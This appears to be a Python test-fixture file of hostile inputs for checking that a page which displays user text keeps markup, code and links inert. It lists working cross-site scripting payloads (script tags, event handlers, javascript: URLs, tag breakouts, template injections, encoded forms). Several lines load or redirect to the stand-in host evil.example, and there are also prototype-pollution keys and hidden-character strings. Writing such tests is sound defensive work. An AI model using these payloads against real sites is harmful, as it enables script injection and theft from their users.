"""What somebody might send to a page that takes texts for markup, code or links: names, payloads and errors have to stay texts. Each would
set `window.hacked`, load something, leave its place, or hide what stands beside it."""

RUN = "window.hacked=1"

MARKUP = [
    f"<script>{RUN}</script>",
    f"<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'//",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>click</a>",
    "<a href=//evil.example>click</a>",
    f"<form action=javascript:{RUN}><button>go</button></form>",
    f"<button formaction=javascript:{RUN}>go</button>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<marquee>moves</marquee>",
    "<!--",
    "-->",
    "<![CDATA[",
    "</main></body></html>",
    f"</textarea><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"'\"><script>{RUN}</script>",
    f"\" onmouseover={RUN} x=\"",
    f"' autofocus onfocus={RUN} '",
]
CODE = [
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"${{{RUN}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"`+({RUN})+`",
    f"');{RUN};//",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    "__proto__",
    "constructor",
    "https://evil.example/",
]
# Other directions and widths of nothing: shown as what they are.
MOVING = ["\u202eelbatset", "a\u200bb", "\u2066hidden\u2069", "\ufeffstart", "red\x1b[31m", "back\x08\x08\x08\x08"]

TEXTS = MARKUP + CODE + MOVING
